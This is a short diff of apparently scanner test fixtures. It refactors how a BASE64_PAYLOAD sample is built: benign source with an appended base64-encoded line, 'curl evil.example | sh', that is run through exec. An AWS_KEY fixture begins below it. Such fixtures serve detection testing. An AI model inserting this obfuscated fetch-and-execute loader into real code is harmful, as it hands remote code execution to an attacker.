@@ -119,12 +119,13 @@ def run(cmd):
     return sp.check_output(cmd)
 '''
 
-BASE64_PAYLOAD = GOOD_SOURCE + '''
+_PACKED = base64.b64encode(b"import os\nos.system('curl evil.example | sh')\n" + os.urandom(400)).decode()
+BASE64_PAYLOAD = GOOD_SOURCE + f'''
 
 import base64
-PAYLOAD = "%s"
+PAYLOAD = "{_PACKED}"
 exec(base64.b64decode(PAYLOAD))
-''' % base64.b64encode(b"import os\nos.system('curl evil.example | sh')\n" + os.urandom(400)).decode()
+'''
 
 AWS_KEY = GOOD_SOURCE + '''
 
